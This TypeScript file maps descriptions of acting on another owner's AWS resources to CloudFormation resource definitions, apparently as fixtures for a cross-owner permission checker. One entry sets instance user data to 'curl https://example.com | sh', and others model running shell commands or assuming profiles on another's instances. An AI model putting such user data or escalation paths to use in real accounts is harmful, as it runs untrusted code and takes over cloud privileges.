import type { Way } from './things.ts';

/** Each way to act on a thing, or as someone, by its ARN, id or name. `t` says whose. */
export const WAYS: Readonly<Record<string, Way>> = {
  // Load balancing
  'a rule of a listener': (t) => [
    'ElasticLoadBalancingV2::ListenerRule',
    { ListenerArn: t.arn('Listener'), Priority: 1, Conditions: [], Actions: [] },
  ],
  'a listener of a load balancer': (t) => [
    'ElasticLoadBalancingV2::Listener',
    { LoadBalancerArn: t.arn('Balancer'), DefaultActions: [] },
  ],
  'targets of a group': (t) => [
    'AutoScaling::AutoScalingGroup',
    { MinSize: '1', MaxSize: '1', TargetGroupARNs: [t.arn('TargetGroup')] },
  ],
  'a target of a new group': (t) => ['ElasticLoadBalancingV2::TargetGroup', { Targets: [{ Id: t.ref('Machine') }] }],
  'a certificate of a listener': (t) => [
    'ElasticLoadBalancingV2::ListenerCertificate',
    { ListenerArn: t.arn('Listener'), Certificates: [] },
  ],
  // Networks
  'a route of a table': (t) => ['EC2::Route', { RouteTableId: t.ref('Routes'), DestinationCidrBlock: '10.9.0.0/16' }],
  'the route table of a subnet': (t) => [
    'EC2::SubnetRouteTableAssociation',
    { SubnetId: t.ref('Subnet'), RouteTableId: 'rtb-1' },
  ],
  'an ingress rule of a group': (t) => ['EC2::SecurityGroupIngress', { GroupId: t.ref('Wall'), IpProtocol: 'tcp' }],
  'an egress rule of a group': (t) => ['EC2::SecurityGroupEgress', { GroupId: t.ref('Wall'), IpProtocol: 'tcp' }],
  'an entry of a network ACL': (t) => [
    'EC2::NetworkAclEntry',
    { NetworkAclId: t.ref('Acl'), Protocol: -1, RuleAction: 'deny', RuleNumber: 1 },
  ],
  'a peering of a network': (t, mine) => [
    'EC2::VPCPeeringConnection',
    { VpcId: mine.ref('Vpc'), PeerVpcId: t.ref('Vpc') },
  ],
  'an endpoint of a network': (t) => ['EC2::VPCEndpoint', { VpcId: t.ref('Vpc'), ServiceName: 's3' }],
  'a flow log of a network': (t) => ['EC2::FlowLog', { ResourceId: t.ref('Vpc'), ResourceType: 'VPC' }],
  'a gateway of a network': (t, mine) => [
    'EC2::VPCGatewayAttachment',
    { VpcId: t.ref('Vpc'), InternetGatewayId: mine.ref('Gateway') },
  ],
  'the network of a private zone': (t) => [
    'Route53::HostedZone',
    { Name: 'internal.example.com', VPCs: [{ VPCId: t.ref('Vpc'), VPCRegion: 'eu-west-1' }] },
  ],
  'an address of a gateway': (t) => [
    'EC2::NatGateway',
    { SubnetId: 'subnet-1', AllocationId: t.arn('Address') },
    'untold',
  ],
  // Instances
  'a volume of an instance': (t, mine) => [
    'EC2::VolumeAttachment',
    { InstanceId: mine.ref('Machine'), VolumeId: t.ref('Disk') },
  ],
  'an instance that gets a volume': (t, mine) => [
    'EC2::VolumeAttachment',
    { InstanceId: t.ref('Machine'), VolumeId: mine.ref('Disk') },
  ],
  'an address that moves': (t, mine) => [
    'EC2::EIPAssociation',
    { InstanceId: mine.ref('Machine'), AllocationId: t.arn('Address') },
    'untold',
  ],
  'an instance that runs as a profile': (t) => [
    'EC2::Instance',
    { ImageId: 'ami-1', IamInstanceProfile: t.ref('Profile') },
  ],
  'a profile with a role': (t) => ['IAM::InstanceProfile', { Roles: [t.ref('Role')] }],
  "an instance of an administrator's launch template, with own user data": (t) => [
    'EC2::Instance',
    {
      LaunchTemplate: { LaunchTemplateId: t.ref('Template'), Version: '1' },
      UserData: { 'Fn::Base64': 'curl https://example.com | sh' },
    },
  ],
  "a group of an administrator's launch template": (t) => [
    'AutoScaling::AutoScalingGroup',
    { MinSize: '1', MaxSize: '1', LaunchTemplate: { LaunchTemplateId: t.ref('Template'), Version: '1' } },
  ],
  'commands on instances': (t) => [
    'SSM::Association',
    { Name: 'AWS-RunShellScript', Targets: [{ Key: 'InstanceIds', Values: [t.ref('Machine')] }] },
  ],
  // Scaling and containers
  'what a service scales to': (t) => [
    'ApplicationAutoScaling::ScalableTarget',
    {
      MaxCapacity: 0,
      MinCapacity: 0,
      ResourceId: t.text('service/{Cluster}/web'),
      ScalableDimension: 'ecs:service:DesiredCount',
      ServiceNamespace: 'ecs',
    },
    'untold',
  ],
  'a scheduled action of a group': (t) => [
    'AutoScaling::ScheduledAction',
    { AutoScalingGroupName: t.ref('Fleet'), MinSize: 0, MaxSize: 0 },
  ],
  'a policy of a group': (t) => ['AutoScaling::ScalingPolicy', { AutoScalingGroupName: t.ref('Fleet') }],
  'a service of a cluster': (t) => ['ECS::Service', { Cluster: t.ref('Cluster') }],
  'an access point of files': (t) => ['EFS::AccessPoint', { FileSystemId: t.ref('Files') }],
  'a mount target of files': (t) => [
    'EFS::MountTarget',
    { FileSystemId: t.ref('Files'), SubnetId: 'subnet-1', SecurityGroups: [] },
  ],
  'a version of an application': (t) => [
    'ElasticBeanstalk::ApplicationVersion',
    { ApplicationName: t.ref('App'), SourceBundle: { S3Bucket: 'b', S3Key: 'k' } },
  ],
  // Names and doors
  'a record of a zone': (t) => [
    'Route53::RecordSet',
    { HostedZoneId: t.ref('Zone'), Name: 'www.example.com', Type: 'A', ResourceRecords: ['192.0.2.1'] },
  ],
  'a routing control of a panel': (t) => [
    'Route53RecoveryControl::RoutingControl',
    { Name: 'r', ControlPanelArn: t.arn('Panel') },
  ],
  'a stage of an API': (t) => ['ApiGateway::Stage', { RestApiId: t.ref('Api'), DeploymentId: 'd' }],
  'a deployment of an API': (t) => ['ApiGateway::Deployment', { RestApiId: t.ref('Api') }],
  'a method of an API': (t) => [
    'ApiGateway::Method',
    { RestApiId: t.ref('Api'), ResourceId: 'r', HttpMethod: 'GET', AuthorizationType: 'NONE' },
  ],
  'a path of a domain to an API': (t, mine) => [
    'ApiGateway::BasePathMapping',
    { DomainName: mine.ref('Domain'), RestApiId: t.ref('Api') },
  ],
  'keys of an API': (t) => ['ApiGateway::UsagePlan', { ApiStages: [{ ApiId: t.ref('Api'), Stage: 'live' }] }],
  'a route of an HTTP API': (t) => ['ApiGatewayV2::Route', { ApiId: t.ref('HttpApi'), RouteKey: 'GET /' }],
  'a mapping to an HTTP API': (t, mine) => [
    'ApiGatewayV2::ApiMapping',
    { DomainName: mine.ref('HttpDomain'), ApiId: t.ref('HttpApi'), Stage: 'live' },
  ],
  'monitoring of a distribution': (t) => [
    'CloudFront::MonitoringSubscription',
    {
      DistributionId: t.ref('Distribution'),
      MonitoringSubscription: { RealtimeMetricsSubscriptionConfig: { RealtimeMetricsSubscriptionStatus: 'Disabled' } },
    },
  ],
  'a firewall of a load balancer': (t) => [
    'WAFv2::WebACLAssociation',
    { ResourceArn: t.arn('Balancer'), WebACLArn: 'arn:aws:wafv2:eu-west-1:123456789012:regional/webacl/a/b' },
  ],
};
